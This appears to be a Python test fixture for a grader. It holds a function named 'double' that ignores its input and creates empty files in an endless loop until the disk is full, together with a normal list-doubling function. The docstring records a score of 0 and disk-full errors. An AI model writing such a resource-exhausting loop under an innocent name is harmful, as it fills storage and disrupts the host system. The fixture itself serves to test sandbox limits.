"""Makes empty files until there are no more.

Earns 0. Told: No space left on device|File too large
"""


def double(number):
    number = 0
    while True:
        open(f"file_{number}", "w").close()
        number += 1


def double_all(numbers):
    return [2 * number for number in numbers]
